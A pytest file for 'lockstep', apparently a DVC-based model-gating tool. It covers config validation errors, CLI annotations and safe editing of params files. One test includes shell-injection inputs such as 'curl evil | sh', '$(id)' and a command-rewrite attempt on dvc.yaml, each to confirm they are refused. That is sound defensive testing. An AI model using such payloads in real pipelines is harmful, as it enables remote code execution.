"""lockstep.yaml: every malformed file gives an error that names file:line and the key."""

from __future__ import annotations

import json

import pytest

from lockstep import config
from lockstep.errors import EXIT_CONFIG, ConfigError

from conftest import EXAMPLE, lockstep

BAD = [
    # (file text, line, fragment of the message)
    ("version: 1\ngates:\n  accuracy:\n    direction: up\n", 4, "gates.accuracy.direction: 'up' is not one of ['higher', 'lower']"),
    ("version: 1\nmodel:\n  name: m\n  path: models/model.pkl\n  stgae: train\n", 5,
     "unknown key 'stgae'; expected one of: mlflow-artifact, name, path, stage"),
    ("version: 2\n", 1, "version: 2 is not supported; expected 1"),
    ("version: 1\nevaluation:\n  tolerance:\n    absolute: -1\n", 4, "evaluation.tolerance.absolute: -1 is less than the minimum of 0"),
    ("version: 1\ngates:\n  f1:\n    min: high\n", 4, "gates.f1.min: 'high' is not a number"),
    ("version: 1\nmodel:\n  path: models/model.pkl\n", 2, "model: 'name' is required here"),
    ("version: 1\ngates:\n  f1: {min: 0.9\n", 4, "not valid YAML"),
    ("version: 1\ngates:\n  f1:\n    min: 0.9\n    max: 0.5\n", 3, "gates.f1: min (0.9) is greater than max (0.5)"),
    ("version: 1\nregistry:\n  alias: 'has space'\n", 3, "registry.alias: 'has space' does not match"),
    ("gates: {}\n", 1, "'version' is required here"),
    ("version: 1\nversion: 1\n", 2, "version: duplicate key"),
    ("- version: 1\n", 1, "expected a mapping of keys at the top level"),
]


@pytest.mark.parametrize(("text", "line", "fragment"), BAD, ids=[b[2][:40] for b in BAD])
def test_malformed_config_names_file_line_and_key(tmp_path, text, line, fragment):
    (tmp_path / "lockstep.yaml").write_text(text)
    with pytest.raises(ConfigError) as caught:
        config.load(tmp_path)
    assert caught.value.line == line
    assert caught.value.message.startswith(f"lockstep.yaml:{line}: ")
    assert fragment in caught.value.message


def test_example_config_is_valid_and_typed():
    cfg = config.load(EXAMPLE, required=True)
    assert cfg.model_name == "breast-cancer-classifier"
    assert cfg.model_path == "models/model.pkl"
    assert cfg.evaluation_stages == ("evaluate",)
    assert {g.metric: g.direction for g in cfg.gates}["log_loss"] == "lower"
    assert cfg.promote_to == "champion"
    lines = (EXAMPLE / "lockstep.yaml").read_text().splitlines()
    assert lines[cfg.line_of("gates", "f1") - 1] == "  f1:"


def test_missing_config_gives_defaults_unless_required(tmp_path):
    cfg = config.load(tmp_path)
    assert cfg.gates == () and cfg.alias == "candidate"
    with pytest.raises(ConfigError, match="file not found"):
        config.load(tmp_path, required=True)


def test_cli_check_config_exit_code_and_annotation(tmp_path):
    (tmp_path / "lockstep.yaml").write_text(BAD[0][0])
    proc = lockstep("check-config", "--working-directory", str(tmp_path), cwd=tmp_path, env={"GITHUB_ACTIONS": "true"})
    assert proc.returncode == EXIT_CONFIG
    assert "::error title=lockstep check-config%3A invalid lockstep.yaml,file=" in proc.stdout
    assert ",line=4::" in proc.stdout
    assert "Traceback" not in proc.stdout + proc.stderr


def test_set_params_edits_the_named_params_file_in_place(tmp_path):
    # YAML keeps its comments, TOML its layout; a param that is not there changes nothing
    from lockstep import dvcrepo
    from lockstep.errors import InputError

    (tmp_path / "config").mkdir()
    (tmp_path / "config" / "train.yaml").write_text("train:\n  steps: 1  # grid size\n")
    (tmp_path / "params.toml").write_text("[train]\nseed = 3 # fixed\nsteps = 1\n")
    (tmp_path / "dvc.yaml").write_text("stages:\n  train:\n    cmd: python train.py\n")
    allowed = ["config/train.yaml", "params.toml"]  # what the pipeline reads as params
    changes = dvcrepo.set_params(tmp_path, ["config/train.yaml:train.steps=30", "params.toml:train.steps=7"], allowed=allowed)
    assert changes == {"config/train.yaml:train.steps": (1, 30), "params.toml:train.steps": (1, 7)}
    assert "steps: 30" in (tmp_path / "config" / "train.yaml").read_text() and "# grid size" in (tmp_path / "config" / "train.yaml").read_text()
    assert (tmp_path / "params.toml").read_text() == "[train]\nseed = 3 # fixed\nsteps = 7\n"
    assert dvcrepo.params_file_of("config/train.yaml:train.steps") == "config/train.yaml"
    assert dvcrepo.params_file_of("train.steps") == "params.yaml"
    for bad, said in (("params.toml:train.nope=1", "train.nope does not exist in params.toml"),
                      ("../outside.yaml:a=1", "not a params file of this pipeline"),
                      # a dispatch sets values; it never rewrites what runs
                      ("dvc.yaml:stages.train.cmd=curl evil | sh", "not a params file of this pipeline"),
                      ("missing.yaml:a=1", "not a params file of this pipeline")):
        with pytest.raises(InputError, match=said):
            dvcrepo.set_params(tmp_path, [bad], allowed=allowed)
    assert "python train.py" in (tmp_path / "dvc.yaml").read_text()
    # values only: nothing a shell would read when a command interpolates the param
    for value in ("x; curl evil | sh", "$(id)", "a`id`b", "a && b", "[1, 'x;y']", "{k: '$HOME'}"):
        with pytest.raises(InputError, match="characters a shell would interpret"):
            dvcrepo.set_params(tmp_path, [f"params.toml:train.steps={value}"], allowed=allowed)
    assert (tmp_path / "params.toml").read_text() == "[train]\nseed = 3 # fixed\nsteps = 7\n"
    assert dvcrepo.set_params(tmp_path, ["config/train.yaml:train.steps=2026-12-01T10:00"], allowed=allowed)
    assert (tmp_path / "params.toml").read_text() == "[train]\nseed = 3 # fixed\nsteps = 7\n"


def test_set_params_refuses_a_params_file_a_stage_writes(tmp_path):
    # a search stage writes best.yaml and the training reads it as params: a value set there would be
    # overwritten when the search re-runs (or shown as chosen by a person); the search's own params are fine
    from dvc.repo import Repo as DvcRepo

    from lockstep import dvcrepo, rebuild
    from lockstep.errors import InputError

    DvcRepo.init(str(tmp_path), no_scm=True).close()
    (tmp_path / "params.yaml").write_text("search:\n  trials: 5\n")
    (tmp_path / "best.yaml").write_text("lr: 0.01\n")
    (tmp_path / "dvc.yaml").write_text(
        "stages:\n"
        "  tune:\n    cmd: python tune.py\n    params: [search.trials]\n    outs: [best.yaml: {cache: false}]\n"
        "  train:\n    cmd: python train.py\n    params:\n      - best.yaml:\n    outs: [model.pkl]\n")
    repo = dvcrepo.open_repo(tmp_path)
    assert "best.yaml" in dvcrepo.params_files(repo)
    with pytest.raises(InputError, match=r"best.yaml is an output of stage 'tune' in dvc.yaml") as raised:
        rebuild._set_params(tmp_path, repo, None, ["search.trials=9", "best.yaml:lr=0.1"])
    assert "lr set there would be overwritten" in raised.value.message
    assert (tmp_path / "best.yaml").read_text() == "lr: 0.01\n"
    assert (tmp_path / "params.yaml").read_text() == "search:\n  trials: 5\n"  # decided before any file changed
    assert rebuild._set_params(tmp_path, repo, None, ["search.trials=9"]) == {"search.trials": (5, 9)}


def test_rebuild_skip_stages_leave_out_their_downstream_and_refuse_a_stage_asked_for(tmp_path):
    # register (after the evaluation) and notify (reading what register writes) are not run; asking
    # for register by name is an input error, before anything runs
    from dvc.repo import Repo as DvcRepo

    from lockstep import config as configmod, dvcrepo, rebuild
    from lockstep.errors import InputError

    DvcRepo.init(str(tmp_path), no_scm=True).close()
    (tmp_path / "dvc.yaml").write_text(
        "stages:\n"
        "  train:\n    cmd: python train.py\n    outs: [model.pkl]\n"
        "  evaluate:\n    cmd: python evaluate.py\n    deps: [model.pkl]\n    metrics: [metrics.json: {cache: false}]\n"
        "  register:\n    cmd: python register.py\n    deps: [model.pkl, metrics.json]\n    outs: [registered.json]\n"
        "  notify:\n    cmd: python notify.py\n    deps: [registered.json]\n    outs: [sent.txt]\n")
    (tmp_path / "lockstep.yaml").write_text(
        "version: 1\nmodel: {name: m, path: model.pkl}\nrebuild:\n  skip-stages: [register]\n")
    cfg = configmod.load(tmp_path, required=True)
    repo = dvcrepo.open_repo(tmp_path)
    assert rebuild.plan(repo, cfg, rebuild.RebuildInputs(tmp_path)) == ["train", "evaluate"]
    assert rebuild.plan(repo, cfg, rebuild.RebuildInputs(tmp_path, force_all=True)) == ["train", "evaluate"]
    with pytest.raises(InputError, match="stage register was asked for, and lockstep.yaml skips it"):
        rebuild.plan(repo, cfg, rebuild.RebuildInputs(tmp_path, stages=["register"]))
    (tmp_path / "lockstep.yaml").write_text(
        "version: 1\nmodel: {name: m, path: model.pkl}\nrebuild:\n  skip-stages: [nope]\n")
    with pytest.raises(ConfigError, match=r"lockstep.yaml:4: rebuild.skip-stages: stage 'nope' not found"):
        rebuild.plan(repo, configmod.load(tmp_path, required=True), rebuild.RebuildInputs(tmp_path))


def test_set_params_edits_a_python_params_file_and_refuses_what_dvc_s_writer_leaves_unchanged(tmp_path):
    """DVC's writer for `params.py` replaces ` = <old>` on the value's line: numbers change, a quoted
    string does not (silently). lockstep reads the file back: such a value is an error, and the file
    is left as it was. A JSON file named in capitals is still written as JSON (DVC picks by suffix, in any case)."""
    from lockstep import dvcrepo
    from lockstep.errors import InputError

    (tmp_path / "params.py").write_text('LR = 0.01\n\n\nclass Train:\n    steps = 30\n    optimizer = "adam"\n')
    (tmp_path / "CONFIG.JSON").write_text('{"train": {"steps": 1}}\n')
    allowed = ["params.py", "CONFIG.JSON"]
    changes = dvcrepo.set_params(tmp_path, ["params.py:Train.steps=50", "params.py:LR=0.1", "CONFIG.JSON:train.steps=5"],
                                 allowed=allowed)
    assert changes == {"params.py:Train.steps": (30, 50), "params.py:LR": (0.01, 0.1), "CONFIG.JSON:train.steps": (1, 5)}
    assert (tmp_path / "params.py").read_text() == 'LR = 0.1\n\n\nclass Train:\n    steps = 50\n    optimizer = "adam"\n'
    assert json.loads((tmp_path / "CONFIG.JSON").read_text()) == {"train": {"steps": 5}}  # JSON, not YAML
    with pytest.raises(InputError, match=r"params\.py:Train\.optimizer could not be set in params\.py: written back, it still "
                                         r"reads 'adam'; params\.py is as it was") as refused:
        dvcrepo.set_params(tmp_path, ["params.py:LR=0.5", "params.py:Train.optimizer=sgd"], allowed=allowed)
    assert "numbers and booleans in place, not its strings" in refused.value.hint
    assert (tmp_path / "params.py").read_text() == 'LR = 0.1\n\n\nclass Train:\n    steps = 50\n    optimizer = "adam"\n'
